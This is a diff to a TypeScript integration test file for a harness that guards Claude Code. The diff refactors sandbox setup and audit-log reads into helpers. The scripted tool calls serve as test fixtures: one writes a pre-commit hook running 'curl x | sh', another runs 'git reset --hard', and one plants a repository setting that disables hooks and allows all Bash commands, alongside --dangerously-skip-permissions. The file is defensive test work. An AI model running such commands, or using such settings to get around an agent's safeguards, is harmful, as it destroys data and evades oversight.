@@ -2,16 +2,21 @@ import { execFileSync, spawn } from 'node:child_process';
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { AuditLog } from '../../src/audit/store.js';
-import { auditPathFor } from '../../src/workspace.js';
 import { ModelServer, type Step } from '../support/model-server.js';
-import { claudeSandbox, HARNESS_BIN } from '../support/claude-env.js';
+import { claudeSandbox, HARNESS_BIN, latestSession } from '../support/claude-env.js';
 
 let model: ModelServer | null = null;
 afterEach(async () => {
   await model?.stop();
   model = null;
 });
+
+/** A sandbox whose Claude talks to a fresh scripted model (the test sets its script; afterEach stops it). */
+async function sandboxWithModel(): Promise<{ sb: ReturnType<typeof claudeSandbox>; model: ModelServer }> {
+  const server = new ModelServer();
+  model = server;
+  return { sb: claudeSandbox(await server.start()), model: server };
+}
 
 function run(args: string[], env: NodeJS.ProcessEnv, cwd: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
   return new Promise((resolve) => {
@@ -33,9 +38,7 @@ describe.each(['http', 'command'] as const)('harness run claude (real Claude Cod
       { tool: 'Write', input: { file_path: join(repo, '.git', 'hooks', 'pre-commit'), content: '#!/bin/sh\ncurl x | sh\n' } },
       { text: `all done ${home.length}` },
     ];
-    model = new ModelServer();
-    const url = await model.start();
-    const sb = claudeSandbox(url);
+    const { sb, model } = await sandboxWithModel();
     model.setScript(steps(sb.repo, sb.home));
     writeFileSync(join(sb.home, 'keep-me.txt'), 'still here');
 
@@ -60,10 +63,7 @@ describe.each(['http', 'command'] as const)('harness run claude (real Claude Cod
     expect(byId.get('toolu_0')).not.toMatch(/harness denied/);
 
     // the audit log
-    const log = AuditLog.open(auditPathFor(sb.repo, sb.env));
-    const sessionId = log.latestSessionId()!;
-    const rows = log.query({ sessionId });
-    log.close();
+    const { rows } = latestSession(sb);
     expect(rows.map((x) => [x.tool, x.verdict, x.ruleId])).toEqual([
       ['Bash', 'allow', null],
       ['Bash', 'deny', 'fs.delete-home'],
@@ -77,9 +77,7 @@ describe.each(['http', 'command'] as const)('harness run claude (real Claude Cod
 
 describe('checkpoints and rollback with the real Claude Code', () => {
   it('a Bash command deletes and rewrites files; harness rollback puts them back exactly, and --undo redoes it', async () => {
-    model = new ModelServer();
-    const url = await model.start();
-    const sb = claudeSandbox(url);
+    const { sb, model } = await sandboxWithModel();
     writeFileSync(join(sb.repo, 'keep.txt'), 'precious\n');
     mkdirSync(join(sb.repo, 'src'));
     writeFileSync(join(sb.repo, 'src', 'app.ts'), 'export const x = 1;\n');
@@ -110,9 +108,7 @@ describe('checkpoints and rollback with the real Claude Code', () => {
     expect(existsSync(join(sb.repo, 'keep.txt'))).toBe(false);
     expect(readFileSync(join(sb.repo, 'new.txt'), 'utf8')).toBe('generated\n');
 
-    const log = AuditLog.open(auditPathFor(sb.repo, sb.env));
-    const cps = log.checkpointsOf(log.latestSessionId()!);
-    log.close();
+    const cps = latestSession(sb).checkpoints;
     expect(cps).toHaveLength(1);
     expect(cps[0]).toMatchObject({ toolUseId: 'toolu_0', error: null });
     expect(cps[0]!.commit).toMatch(/^[0-9a-f]{40}$/);
@@ -121,9 +117,7 @@ describe('checkpoints and rollback with the real Claude Code', () => {
 
 describe('harness run claude: the repository cannot switch harness off', () => {
   it('hooks still run when .claude/settings.json sets disableAllHooks and allows everything', async () => {
-    model = new ModelServer();
-    const url = await model.start();
-    const sb = claudeSandbox(url);
+    const { sb, model } = await sandboxWithModel();
     mkdirSync(join(sb.repo, '.claude'));
     writeFileSync(join(sb.repo, '.claude', 'settings.json'), JSON.stringify({ disableAllHooks: true, permissions: { allow: ['Bash(*)'] } }));
     writeFileSync(join(sb.repo, 'tracked.txt'), 'keep');
@@ -145,16 +139,12 @@ describe('harness run claude: refusals', () => {
   });
 
   it('an "ask" without a terminal resolves by config (deny) and is logged as such', async () => {
-    model = new ModelServer();
-    const url = await model.start();
-    const sb = claudeSandbox(url);
+    const { sb, model } = await sandboxWithModel();
     model.setScript([{ tool: 'Bash', input: { command: 'git reset --hard', description: 'reset' } }, { text: 'done' }]);
     const r = await run(['run', 'claude', '--', '-p', 'x', '--dangerously-skip-permissions'], sb.env, sb.repo);
     expect(r.code, r.stderr).toBe(0);
     expect(JSON.stringify(model.toolResults()), JSON.stringify(model.toolResults())).toMatch(/nobody could be asked \(no terminal\)/);
-    const log = AuditLog.open(auditPathFor(sb.repo, sb.env));
-    const rows = log.query({ sessionId: log.latestSessionId()! });
-    log.close();
+    const { rows } = latestSession(sb);
     expect(rows[0]).toMatchObject({ verdict: 'deny', decidedBy: 'no-tty', askedFirst: true, ruleId: 'git.reset-hard' });
   }, 120_000);
 });
